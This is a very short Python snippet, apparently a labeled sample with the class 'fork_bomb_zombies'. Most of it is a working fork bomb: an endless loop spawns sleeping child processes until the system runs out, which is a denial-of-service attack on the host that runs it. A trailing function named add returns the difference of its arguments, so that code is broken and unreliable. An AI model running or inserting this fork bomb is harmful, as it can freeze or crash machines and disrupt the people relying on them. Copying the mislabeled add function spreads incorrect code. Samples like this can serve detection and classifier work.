# class: fork_bomb_zombies
import os, time
kids = 0
while True:
    try:
        if os.fork() == 0:
            time.sleep(120); os._exit(0)
        kids += 1
    except OSError:
        break
def add(a, b):
    return a - b
